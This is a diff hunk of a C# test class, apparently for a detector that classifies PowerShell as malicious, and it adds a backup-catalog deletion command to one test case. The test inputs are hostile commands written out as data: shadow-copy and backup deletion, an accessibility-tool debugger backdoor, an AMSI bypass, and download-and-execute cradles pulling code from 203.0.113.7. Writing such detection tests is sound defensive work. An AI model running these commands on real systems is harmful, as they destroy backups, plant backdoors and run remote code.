@@ -25,7 +25,7 @@ public sealed class SearchWordTests
     [InlineData("$c = 'vssadmin delete shadows /all /quiet','wbadmin delete catalog -quiet'; $c | % { cmd /c $_ }")]
     [InlineData("'sethc.exe','utilman.exe' | % { New-ItemProperty \"HKLM:\\SOFTWARE\\Microsoft\\Windows NT\\CurrentVersion\\Image File Execution Options\\$_\" -Name Debugger -Value cmd.exe }")]
     [InlineData("$c = 'IEX (New-Object Net.WebClient).DownloadString(\"http://203.0.113.7/a\")'; if ($x -match $c) { 'seen' }; powershell -c $c")]
-    [InlineData("Describe 'Detector' { $bad = @{ a = \"vssadmin delete shadows /all /quiet\" }; foreach ($k in $bad.Keys) { It \"flags $k\" { cmd /c $bad[$k] | Should -Be 'Malicious' } } }")]
+    [InlineData("Describe 'Detector' { $bad = @{ a = \"vssadmin delete shadows /all /quiet\"; b = 'wbadmin delete catalog -quiet' }; foreach ($k in $bad.Keys) { It \"flags $k\" { cmd /c $bad[$k] | Should -Be 'Malicious' } } }")]
     [InlineData("function It($n, $b) { iex $bad.a }; Describe 'D' { $bad = @{ a = \"vssadmin delete shadows /all /quiet\" }; It 'x' { Test-X $bad.a | Should -Be 1 } }")]
     [InlineData("$f = [Ref].Assembly.GetType('System.Management.Automation.AmsiUtils').GetField('amsiInitFailed', 'NonPublic,Static'); $f.GetValue($null); $f.SetValue($null, $true)")]
     [InlineData("$sb = 'x'; $sb = (New-Object Net.WebClient).DownloadString('http://203.0.113.7/a'); [void][powershell]::Create().AddScript($sb).Invoke()")]
